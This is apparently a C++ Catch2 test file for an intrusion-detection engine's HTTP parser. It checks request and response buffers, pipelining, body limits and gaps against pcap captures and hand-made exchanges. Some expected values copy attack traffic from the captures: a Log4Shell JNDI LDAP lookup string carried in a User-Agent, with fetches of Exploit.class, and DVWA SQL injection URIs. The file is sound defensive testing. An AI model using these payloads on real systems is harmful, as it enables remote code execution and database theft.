// HTTP through the app layer on real captures (expected values read with tshark 4.0 from the same
// files) and on small hand-written exchanges for the buffer definitions.
#include <catch2/catch.hpp>

#include <algorithm>

#include "capture_feeder.h"

using namespace vigil::applayer;
using namespace vigil::applayer::test;

namespace {

std::vector<RecordedTx> of(const FeedResult& result, AppProto proto, Direction direction) {
  std::vector<RecordedTx> out;
  for (const RecordedTx& tx : result.transactions) {
    if (tx.proto == proto && tx.direction == direction) out.push_back(tx);
  }
  return out;
}

// Feeds one client->server and one server->client byte string, in that order.
RecordingHandler exchange(std::string_view request, std::string_view response, uint16_t port = 80,
                          AppLayerOptions options = {}) {
  AppLayerContext context(options);
  AppLayerFlow flow(context, Transport::tcp, 40000, port);
  RecordingHandler handler;
  flow.on_stream_data(Direction::to_server, request, handler);
  flow.on_stream_data(Direction::to_client, response, handler);
  flow.on_close(handler);
  return handler;
}

}  // namespace

TEST_CASE("http: a request on port 8080 is HTTP (Log4Shell capture)", "[applayer][http][corpus]") {
  const std::string path = corpus_path("attacks/web/ndpi-log4j-webapp-exploit.pcap");
  if (path.empty()) return;
  const FeedResult result = feed_capture(path);
  const auto requests = of(result, AppProto::http, Direction::to_server);
  auto post = std::find_if(requests.begin(), requests.end(), [](const RecordedTx& tx) {
    return tx.get(BufferId::http_method) == "POST";
  });
  REQUIRE(post != requests.end());
  CHECK(post->server_port == 8080);
  CHECK(post->get(BufferId::http_uri) == "/log4shell/login");
  CHECK(post->get(BufferId::http_host) == "192.168.13.31");
  CHECK(post->get(BufferId::http_host_raw) == "192.168.13.31:8080");
  CHECK(post->get(BufferId::http_user_agent) == "jndi:ldap://172.16.238.11:1389/a");
  CHECK(post->eve["http"]["hostname"] == "192.168.13.31");
  CHECK(post->eve["http"]["http_method"] == "POST");
  // tshark: two GET /Exploit.class with User-Agent Java/1.8.0_51 on port 80, every response 200.
  CHECK(std::count_if(requests.begin(), requests.end(), [](const RecordedTx& tx) {
          return tx.get(BufferId::http_uri) == "/Exploit.class" &&
                 tx.get(BufferId::http_user_agent) == "Java/1.8.0_51" && tx.server_port == 80;
        }) == 2);
  const auto responses = of(result, AppProto::http, Direction::to_client);
  REQUIRE(responses.size() == 3);
  for (const RecordedTx& r : responses) {
    CHECK(r.get(BufferId::http_stat_code) == "200");
    CHECK(r.values.http_status == 200);
    CHECK(r.eve["http"]["status"] == 200);
  }
  const auto on_8080 = std::find_if(responses.begin(), responses.end(),
                                    [](const RecordedTx& r) { return r.server_port == 8080; });
  REQUIRE(on_8080 != responses.end());
  CHECK(on_8080->get(BufferId::http_method) == "POST");  // the request rides with its response
}

TEST_CASE("http: request lines split across TCP segments (1388-byte segments, URIs of 1.2-1.5 KB)",
          "[applayer][http][corpus]") {
  const std::string path = corpus_path("mixed/ndpi/http_ua_splitted_in_two_pkts.pcapng");
  if (path.empty()) return;
  const FeedResult result = feed_capture(path);
  const auto requests = of(result, AppProto::http, Direction::to_server);
  const auto responses = of(result, AppProto::http, Direction::to_client);
  // tshark: 37 GET requests on one connection, 37 responses with status 200.
  REQUIRE(requests.size() == 37);
  REQUIRE(responses.size() == 37);
  for (size_t i = 0; i < requests.size(); ++i) {
    CHECK(requests[i].id == i);
    CHECK(requests[i].complete);
    CHECK(requests[i].get(BufferId::http_host) == "va.origin.startappservice.com");
    CHECK(requests[i].get(BufferId::http_user_agent).rfind("Mozilla/5.0 (Linux; Android 6.0.1; SM-T805", 0) == 0);
    CHECK(responses[i].get(BufferId::http_stat_code) == "200");
  }
  // The first request's URI (frame 4): 1278 bytes, its first segment ends inside it.
  const std::string uri = requests[0].get(BufferId::http_uri_raw);
  CHECK(uri.size() == 1278);
  CHECK(uri.rfind("/tracking/adImpression?d=IAAAAAAgAAA6X1tPSEVEX1lYX11IQ0JYRVdYR01QQFBF", 0) == 0);
  CHECK(requests[0].get(BufferId::http_request_line) == "GET " + uri + " HTTP/1.1");
}

TEST_CASE("http: keep-alive browsing, gzip and chunked bodies are decoded (real captures)", "[applayer][http][corpus]") {
  SECTION("gzip: espn.go.com's front page") {
    const std::string path = corpus_path("mixed/chrissanders/http_espn.pcapng");
    if (path.empty()) return;
    const FeedResult result = feed_capture(path);
    const auto responses = of(result, AppProto::http, Direction::to_client);
    auto front = std::find_if(responses.begin(), responses.end(), [](const RecordedTx& r) {
      return r.get(BufferId::http_host) == "espn.go.com" && r.get(BufferId::http_uri) == "/";
    });
    REQUIRE(front != responses.end());
    CHECK(front->get(BufferId::http_content_type) == "text/html; charset=iso-8859-1");
    const std::string body = front->get(BufferId::http_response_body);
    CHECK(body.rfind("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\"", 0) == 0);
    CHECK(front->get(BufferId::file_data) == body);
    CHECK(front->eve["http"]["http_content_type"] == "text/html");
    // tshark: 61 requests in the capture.
    CHECK(of(result, AppProto::http, Direction::to_server).size() == 61);
  }
  SECTION("chunked, and the URI normalised as Suricata does (query url-decoded, '+' kept)") {
    const std::string path = corpus_path("attacks/web/zeek-http_cooper-grill-dvwa.pcapng");
    if (path.empty()) return;
    const FeedResult result = feed_capture(path);
    const auto requests = of(result, AppProto::http, Direction::to_server);
    REQUIRE(requests.size() == 3);
    CHECK(requests[0].get(BufferId::http_uri_raw) == "/dvwa/vulnerabilities/sqli/?id=1%27+OR+%271%27%3D%271&Submit=Submit");
    CHECK(requests[0].get(BufferId::http_uri) == "/dvwa/vulnerabilities/sqli/?id=1'+OR+'1'='1&Submit=Submit");
    CHECK(requests[1].get(BufferId::http_uri) ==
          "/dvwa/vulnerabilities/sqli/?id=1'+UNION+SELECT+NULL,+version()+#&Submit=Submit");
    CHECK(requests[0].eve["http"]["url"] == "/dvwa/vulnerabilities/sqli/?id=1%27+OR+%271%27%3D%271&Submit=Submit");
    const auto responses = of(result, AppProto::http, Direction::to_client);
    REQUIRE(responses.size() == 3);
    const std::string body = responses[0].get(BufferId::http_response_body);
    CHECK(body.rfind("\r\n<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\"", 0) == 0);
    CHECK(body.find("</html>") != std::string::npos);
  }
}

TEST_CASE("http: buffer contents follow Suricata's definitions", "[applayer][http]") {
  const auto handler = exchange(
      "GET /a/./b/../c%2fd?x=%41+b HTTP/1.1\r\nHost: Example.COM:8080\r\nUser-Agent: ua/1\r\n"
      "Cookie: s=1\r\nAccept: */*\r\nReferer: http://r/\r\n\r\n",
      "HTTP/1.1 302 Found\r\nServer: srv\r\nLocation: /next\r\nSet-Cookie: t=2\r\nContent-Length: 3\r\n\r\nabc");
  REQUIRE(handler.transactions.size() == 2);
  const RecordedTx& request = handler.transactions[0];
  CHECK(request.direction == Direction::to_server);
  CHECK(request.get(BufferId::http_method) == "GET");
  CHECK(request.get(BufferId::http_uri_raw) == "/a/./b/../c%2fd?x=%41+b");
  CHECK(request.get(BufferId::http_uri) == "/a/c/d?x=A+b");
  CHECK(request.get(BufferId::http_protocol) == "HTTP/1.1");
  CHECK(request.get(BufferId::http_request_line) == "GET /a/./b/../c%2fd?x=%41+b HTTP/1.1");
  CHECK(request.get(BufferId::http_host) == "example.com");
  CHECK(request.get(BufferId::http_host_raw) == "Example.COM:8080");
  CHECK(request.get(BufferId::http_cookie) == "s=1");
  CHECK(request.get(BufferId::http_accept) == "*/*");
  CHECK(request.get(BufferId::http_referer) == "http://r/");
  CHECK(request.get(BufferId::http_header) ==
        "Host: Example.COM:8080\r\nUser-Agent: ua/1\r\nAccept: */*\r\nReferer: http://r/\r\n");
  CHECK(request.get(BufferId::http_header_names) == "\r\nHost\r\nUser-Agent\r\nCookie\r\nAccept\r\nReferer\r\n\r\n");
  CHECK(request.get(BufferId::http_header_raw) ==
        "Host: Example.COM:8080\r\nUser-Agent: ua/1\r\nCookie: s=1\r\nAccept: */*\r\nReferer: http://r/\r\n\r\n");
  CHECK(request.get(BufferId::http_start) == "GET /a/./b/../c%2fd?x=%41+b HTTP/1.1\r\n" +
                                                 request.get(BufferId::http_header_raw));
  CHECK_FALSE(request.has(BufferId::http_stat_code));
  CHECK_FALSE(request.has(BufferId::http_request_body));

  const RecordedTx& response = handler.transactions[1];
  CHECK(response.direction == Direction::to_client);
  CHECK(response.id == request.id);
  CHECK(response.get(BufferId::http_uri) == "/a/c/d?x=A+b");
  CHECK(response.get(BufferId::http_stat_code) == "302");
  CHECK(response.get(BufferId::http_stat_msg) == "Found");
  CHECK(response.get(BufferId::http_response_line) == "HTTP/1.1 302 Found");
  CHECK(response.get(BufferId::http_server) == "srv");
  CHECK(response.get(BufferId::http_location) == "/next");
  CHECK(response.get(BufferId::http_cookie) == "t=2");
  CHECK(response.get(BufferId::http_header) == "Server: srv\r\nLocation: /next\r\nContent-Length: 3\r\n");
  CHECK(response.get(BufferId::http_response_body) == "abc");
  CHECK(response.get(BufferId::file_data) == "abc");
  CHECK(response.get(BufferId::http_content_len) == "3");
  CHECK(response.values.http_status == 302);
  CHECK(response.eve == nlohmann::json::parse(R"({"http":{"hostname":"Example.COM","http_port":8080,
      "url":"/a/./b/../c%2fd?x=%41+b","http_user_agent":"ua/1","http_refer":"http://r/","http_method":"GET",
      "protocol":"HTTP/1.1","status":302,"redirect":"/next","length":3}})"));
}

TEST_CASE("http: pipelined requests are answered in order", "[applayer][http]") {
  const auto handler = exchange(
      "GET /one HTTP/1.1\r\nHost: h\r\n\r\nPOST /two HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\n\r\nbody",
      "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nAHTTP/1.1 404 Not Found\r\nTransfer-Encoding: chunked\r\n\r\n"
      "2\r\nBB\r\n0\r\n\r\n");
  REQUIRE(handler.transactions.size() == 4);
  CHECK(handler.transactions[0].get(BufferId::http_uri) == "/one");
  CHECK(handler.transactions[1].get(BufferId::http_uri) == "/two");
  CHECK(handler.transactions[1].get(BufferId::http_request_body) == "body");
  CHECK(handler.transactions[1].get(BufferId::file_data) == "body");
  CHECK(handler.transactions[2].get(BufferId::http_uri) == "/one");
  CHECK(handler.transactions[2].get(BufferId::http_response_body) == "A");
  CHECK(handler.transactions[3].id == 1);
  CHECK(handler.transactions[3].get(BufferId::http_uri) == "/two");
  CHECK(handler.transactions[3].get(BufferId::http_stat_code) == "404");
  CHECK(handler.transactions[3].get(BufferId::http_response_body) == "BB");
}

TEST_CASE("http: bodies are kept up to the configured limits", "[applayer][http]") {
  AppLayerOptions options;
  options.response_body_limit = 10;
  const auto handler = exchange("GET / HTTP/1.0\r\n\r\n",
                                "HTTP/1.0 200 OK\r\n\r\n" + std::string(5000, 'x'), 80, options);
  REQUIRE(handler.transactions.size() == 2);
  CHECK(handler.transactions[1].get(BufferId::http_response_body) == std::string(10, 'x'));
  CHECK(handler.transactions[1].values.http_response_length == 5000);  // the body ran to the close
}

TEST_CASE("http: a request cut off by the end of the flow is still delivered, marked incomplete", "[applayer][http]") {
  const auto handler = exchange("POST /upload HTTP/1.1\r\nHost: h\r\nContent-Length: 100\r\n\r\npartial", "");
  REQUIRE(handler.transactions.size() == 1);
  CHECK_FALSE(handler.transactions[0].complete);
  CHECK(handler.transactions[0].get(BufferId::http_uri) == "/upload");
  CHECK(handler.transactions[0].get(BufferId::http_request_body) == "partial");
}

TEST_CASE("http: bytes that are not UTF-8 still give an EVE object that serialises", "[applayer][http]") {
  // Found by http_fuzz: nlohmann::json::dump throws on invalid UTF-8.
  const auto handler = exchange("GET /\xff HTTP/1.1\r\nHost: h\r\nUser-Agent: a\xff\xc3(b \xe2\x82\xac\r\n\r\n", "");
  REQUIRE(handler.transactions.size() == 1);
  const RecordedTx& tx = handler.transactions[0];
  CHECK(tx.get(BufferId::http_user_agent) == "a\xff\xc3(b \xe2\x82\xac");  // the buffer keeps the bytes
  CHECK_NOTHROW(tx.eve.dump());
  CHECK(tx.eve["http"]["http_user_agent"] == "a\xc3\xbf\xc3\x83(b \xe2\x82\xac");  // U+00FF, U+00C3, kept €
}

TEST_CASE("http: a response without its request (capture began mid-flow) is the only transaction", "[applayer][http]") {
  const auto handler = exchange("", "HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\n\r\nno");
  REQUIRE(handler.transactions.size() == 1);
  CHECK(handler.transactions[0].direction == Direction::to_client);
  CHECK(handler.transactions[0].get(BufferId::http_stat_code) == "404");
  CHECK(handler.transactions[0].get(BufferId::http_response_body) == "no");
}

TEST_CASE("http: a gap ends the flow's HTTP parsing, what was parsed is delivered", "[applayer][http]") {
  AppLayerContext context;
  AppLayerFlow flow(context, Transport::tcp, 40000, 80);
  RecordingHandler handler;
  flow.on_stream_data(Direction::to_server, "GET /before HTTP/1.1\r\nHost: h\r\n\r\n", handler);
  flow.on_stream_data(Direction::to_client, "HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nabc", handler);
  flow.on_gap(Direction::to_client, handler);
  flow.on_stream_data(Direction::to_server, "GET /after HTTP/1.1\r\nHost: h\r\n\r\n", handler);
  REQUIRE(handler.transactions.size() == 2);
  CHECK(handler.transactions[1].direction == Direction::to_client);
  CHECK_FALSE(handler.transactions[1].complete);
  CHECK(handler.transactions[1].get(BufferId::http_response_body) == "abc");
  CHECK_FALSE(flow.wants_data());
  CHECK(context.stats().gaps == 1);
}
